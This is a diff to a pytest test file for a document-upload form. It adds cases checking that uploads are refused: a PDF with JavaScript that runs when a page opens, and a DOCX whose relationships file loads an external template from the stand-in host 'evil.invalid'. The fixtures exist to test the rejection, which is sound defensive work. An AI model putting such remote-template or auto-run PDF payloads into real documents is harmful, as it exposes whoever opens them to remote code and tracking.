@@ -14,10 +14,17 @@ from evaluations.services.errors import InvalidTransition
 from evaluations.services.evidence import evidence_add, evidence_replace, evidence_withdraw
 from evaluations.tests import samples
 from evaluations.tests.workflow import fresh, submitted
+from kks.tests import pdf_hostile
+from kks.tests import samples as upload_samples
 
 pytestmark = pytest.mark.django_db
 
 OOXML = "application/vnd.openxmlformats-officedocument"
+REMOTE_TEMPLATE_RELS = (
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+    b'attachedTemplate" Target="https://evil.invalid/t.dotm" TargetMode="External"/></Relationships>'
+)
 
 
 @pytest.fixture
@@ -76,6 +83,12 @@ def test_several_files_can_be_uploaded_at_once(client, coordinator, response):
         ("laporan.pdf", samples.HTML, "bukan jenis yang diizinkan"),
         ("gambar.svg", samples.SVG, "bukan jenis yang diizinkan"),
         ("kosong.pdf", b"", "kosong"),
+        ("bukti.pdf", pdf_hostile.page_open_aa_javascript(), "berisi konten aktif yang bisa berjalan saat dibuka"),
+        (
+            "notulen.docx",
+            upload_samples.docx_bytes([("word/_rels/settings.xml.rels", REMOTE_TEMPLATE_RELS)]),
+            "memuat templat atau isi dari alamat luar",
+        ),
     ],
 )
 def test_a_rejected_file_keeps_the_rest_of_the_form(client, coordinator, response, name, content, message):
